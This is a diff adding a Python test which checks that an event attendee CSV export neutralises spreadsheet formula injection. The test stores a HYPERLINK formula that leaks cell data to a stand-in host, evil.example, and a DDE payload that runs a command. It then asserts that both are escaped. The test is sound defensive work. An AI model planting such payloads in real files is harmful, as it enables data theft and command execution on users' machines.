@@ -233,3 +233,22 @@ def test_pitch_page_query_count_does_not_grow_with_questions(users, pitch_questi
         response = client.get(page)
     assert response.content.decode().count('class="pitch-question"') == 6
     assert len(many) == len(few)
+
+
+def test_attendees_csv_cells_never_become_formulas(users, live_event, client_for):
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    profile = users["member"].profile
+    profile.full_name = hostile
+    profile.save(update_fields=["full_name"])
+    organisation = profile.organisation
+    organisation.name = "+cmd|' /C calc'!A0"
+    organisation.save(update_fields=["name"])
+    services.register(live_event, actor=users["member"])
+    text = client_for(users["coordinator"]).get(route(live_event, "attendees_csv"))
+    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
+    assert rows[1][0] == "'" + hostile
+    assert rows[1][1] == "'+cmd|' /C calc'!A0"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
